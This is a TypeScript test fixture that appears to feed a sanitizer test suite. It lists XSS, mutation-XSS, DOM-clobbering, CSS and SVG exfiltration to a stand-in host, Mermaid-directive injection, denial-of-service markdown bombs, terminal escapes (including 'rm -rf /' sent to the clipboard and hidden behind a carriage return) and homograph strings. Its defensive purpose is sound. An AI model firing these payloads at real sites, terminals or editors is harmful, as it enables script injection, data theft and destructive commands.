// Hostile strings by their public classes: handlers, CSS, SVG and MathML, clobbered names, mutations, templates, Mermaid
// directives, bombs, terminal escapes, direction marks.

/** What a script of theirs would do; the page is asked for it afterwards. */
const act = 'top.hit=1';

const handlers = [
  ...[
    'img src=x',
    'video src=x',
    'audio src=x',
    'input type=image src=x',
    'source src=x',
    'script src=x',
    'link rel=icon href=x',
  ].map((tag) => `<${tag} onerror=${act}>`),
  ...['svg', 'body', 'style', 'iframe', 'img src=data:,'].map((tag) => `<${tag} onload=${act}>`),
  ...['focus', 'focusin', 'blur', 'beforeinput', 'selectionchange'].map(
    (event) => `<input autofocus tabindex=1 on${event}=${act}>`,
  ),
  ...['animationstart', 'animationend', 'transitionrun', 'transitionend'].map(
    (event) => `<p style="animation:a 1ms;transition:all 1ms" on${event}=${act}>x</p>`,
  ),
  ...['pointerover', 'mouseenter', 'wheel', 'copy', 'contextmenu', 'dragstart', 'click', 'auxclick'].map(
    (event) => `<b on${event}="${act}">x</b>`,
  ),
  ...['toggle', 'beforetoggle', 'beforematch', 'scrollend', 'contentvisibilityautostatechange'].map(
    (event) => `<details open popover hidden=until-found on${event}=${act}>x</details>`,
  ),
  `<img/src=x/onerror=${act}>`,
  `<img src=x onerror\n=${act}>`,
  `<img src=x oNeRrOr=${act}>`,
  `<img src=x onerror=&#116;op.hit=1>`,
  `<img src=\`x\` onerror=\`${act}\`>`,
  `<<img src=x onerror=${act}//<</b>`,
  `<button popovertarget=x>x</button><div id=x popover onbeforetoggle=${act}>y</div>`,
];

const styles = (far: string): readonly string[] => [
  `<style>*{background:url(${far}/css)}</style>`,
  `<style>@import url(${far}/import);</style>`,
  `<style>@font-face{font-family:x;src:url(${far}/font)}*{font-family:x}</style>`,
  `<style>input[value^="a"]{background:url(${far}/leak)}</style>`,
  `<p style="background-image:url(${far}/inline)">x</p>`,
  `<p style="background:image-set('${far}/set' 1x)">x</p>`,
  `<p style="list-style:url(${far}/list);display:list-item">x</p>`,
  `<p style="cursor:url(${far}/cursor),auto">x</p>`,
  `<p style="behavior:url(#x);-moz-binding:url(x);width:expression(${act})">x</p>`,
  `<div style="position:fixed;z-index:99999;top:0;left:0;width:100vw;height:100vh">cover</div>`,
  `<style>.page{display:none}#app{visibility:hidden}</style>`,
  `</style><script>${act}</script>`,
  `<style><!--</style><script>${act}//--></script>`,
];

const vectors = (far: string): readonly string[] => [
  `<svg><image href="${far}/image"/></svg>`,
  `<svg><image xlink:href="${far}/xlink"/></svg>`,
  `<svg><feImage href="${far}/feimage"/></svg>`,
  `<svg><use href="${far}/use#x"/></svg>`,
  `<svg><style>@import "${far}/svgcss"</style></svg>`,
  `<svg><set attributeName="href" to="javascript:${act}"/></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${act} /><text x=20 y=20>x</text></a></svg>`,
  `<svg><script href="${far}/svgscript"/></svg>`,
  `<svg><script>&#116;op.hit=1</script></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${act}</handler></svg>`,
  `<svg><foreignObject><body onload=${act}></foreignObject></svg>`,
  `<svg><desc><template><style><img src=x onerror=${act}></style></template></desc></svg>`,
  `<svg onload=${act}><title><![CDATA[x]]></title></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${act}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${act}></annotation-xml></math>`,
  `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  `<math><semantics><mtext><script>${act}</script></mtext></semantics></math>`,
];

/** Parsed once they are harmless; parsed again, as after innerHTML, they would not be. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noembed><p title="</noembed><img src=x onerror=${act}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${act}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>">`,
  `<plaintext><img src=x onerror=${act}>`,
  `<listing>&lt;img src=1 onerror=${act}&gt;</listing>`,
  `<select><template><img src=x onerror=${act}></template></select>`,
  `<table><caption><svg><title><table><caption></caption></table><style></title><img src=x onerror=${act}>`,
  `<a href="x" title="><img src=x onerror=${act}>">x</a>`,
  `<p id="x--!><img src=x onerror=${act}>">`,
  `<!-- --!><img src=x onerror=${act}> -->`,
  `<![if !IE]><img src=x onerror=${act}><![endif]>`,
  `<title>&lt;/title&gt;<img src=x onerror=${act}></title>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${act}>`,
];

const clobbered = [
  ...[
    'app',
    'body',
    'head',
    'cookie',
    'location',
    'createElement',
    'getElementById',
    'currentScript',
    'defaultView',
  ].map((name) => `<img id=${name} name=${name}>`),
  ...['acquireVsCodeApi', 'postMessage', 'addEventListener', 'lit', 'mermaid', 'DOMPurify'].map(
    (name) => `<form id=${name}><input id=toString name=attributes></form>`,
  ),
  '<a id=x><a id=x name=y href="javascript:top.hit=1">z</a></a>',
  '<iframe name=standIn srcdoc="x"></iframe>',
];

const names = [
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'prototype',
  'then',
  'toJSON',
  'length',
  'NaN',
  'null',
];

const templates = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{=<% %>=}}<% x %>',
  '[[${7*7}]]',
  '{%print(1)%}',
  '$eval("top.hit=1")',
  '%(x)s %s %d %n',
  '{0} {1} {name}',
  "$& $1 $` $' $$",
  '\\u003cscript\\u003etop.hit=1\\u003c/script\\u003e',
];

const diagram = (text: string): string => `\`\`\`mermaid\n${text}\n\`\`\``;
const diagrams = (far: string): readonly string[] =>
  [
    `%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n A["<img src=${far}/mm onerror=${act}>"]`,
    `%%{init: {"themeVariables": {"primaryColor": "red;} * {background: url(${far}/mc)}"}}}%%\nflowchart LR\n A-->B`,
    `%%{init: {"theme":"base","themeCSS":"@import '${far}/mi';"}}%%\nflowchart LR\n A-->B`,
    `%%{init: {"fontFamily": "x;background:url(${far}/mf)"}}%%\nflowchart LR\n A-->B`,
    `%%{init: {"__proto__": {"hit": 1}, "constructor": {"prototype": {"hit": 1}}}}%%\nflowchart LR\n A-->B`,
    `flowchart LR\n A-->B\n click A call top.alert("x")`,
    `flowchart LR\n A-->B\n click A href "javascript:${act}" _top`,
    `flowchart LR\n A@{ img: "${far}/node.png", label: "x" }`,
    `flowchart LR\n A["$$\\href{javascript:${act}}{x}$$"]`,
    `flowchart LR\n A:::x\n classDef x fill:url(${far}/fill)\n style A background:url(${far}/bg)`,
    `sequenceDiagram\n participant A\n links A: {"x": "javascript:${act}"}\n A->>A: <script>${act}</script>`,
    `classDiagram\n class A\n link A "javascript:${act}" "<img src=x onerror=${act}>"`,
    `gantt\n title x\n section y\n z :a, 2020-01-01, 1d\n click a href "javascript:${act}"`,
    `pie title <img src=x onerror=${act}>\n "<svg onload=${act}>" : 1`,
    `mindmap\n root((<img src=x onerror=${act}>))`,
    `gitGraph\n commit id: "<img src=x onerror=${act}>"`,
    `flowchart LR\n${Array.from({ length: 600 }, (_, at) => ` A${at}-->A${at + 1}`).join('\n')}`,
  ].map(diagram);

/** Cheap to write and dear to read, for who reads them the wrong way. */
const bombs = [
  '*'.repeat(5000),
  '_a'.repeat(3000),
  '[a](<b'.repeat(1500),
  '![['.repeat(1500),
  '[^a]: '.repeat(800),
  `${'[x]'.repeat(500)}\n\n[x]: y`,
  '<!--'.repeat(1500),
  '<'.repeat(5000),
  '&'.repeat(5000),
  '\\'.repeat(5001),
  `${' '.repeat(4000)}x`,
  '\t'.repeat(2000),
  `${'- '.repeat(300)}x`,
  Array.from({ length: 150 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
  `${'> '.repeat(60)}${'- '.repeat(60)}x`,
  `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n|${'b|'.repeat(400)}`,
  '#'.repeat(3000),
  `${'a'.repeat(50)}@`.repeat(60),
  'https://'.repeat(600),
  `${'<b>'.repeat(1500)}x`,
  '~~'.repeat(1500),
  'x\n=\n'.repeat(300),
];

const terminal = [
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]52;c;cm0gLXJmIC8=\u0007',
  '\u001b]8;;command:workbench.action.quit\u001b\\x\u001b]8;;\u001b\\',
  '\u001bP+q544e\u001b\\',
  '\u009b31mred\u009b0m',
  '\u009d0;x\u009c',
  '\u001b[6n\u001b[c',
  '\u001b[?1049h',
  'safe\rrm -rf /',
  'a\bb\u007fc',
  '\u0085\u2028\u2029x',
];

const marks = [
  '\u202a\u202b\u202d\u202e\u202cx',
  '\u2067\u2068\u2066x\u2069',
  '\u200e\u200f\u061cx',
  'Submit \u202etimbuS\u202c round',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u{e0001}\u{e0041}\u{e007f}',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
  'раураl.com',
];

const commands = [
  '[a](command:workbench.action.quit "x")',
  '[a] (command:x)',
  '[a]\\(command:x)',
  '[a\\](command:x)](command:y)',
  '[[a](command:x)](command:y)',
  '[$(zap)](command:x)',
  '$(zap~spin) $(nope) \\$(zap)',
  '[a](vscode-command://x) [b](vscode://vscode.git/clone?url=x)',
  '<command:workbench.action.quit>',
  '![a](command:x)',
];

/** `far` is a server that must not be asked for anything. */
export function hostileClasses(far: string): readonly string[] {
  const markup = [...handlers, ...styles(far), ...vectors(far), ...mutations, ...clobbered];
  return [...markup, ...names, ...templates, ...diagrams(far), ...bombs, ...terminal, ...marks, ...commands];
}
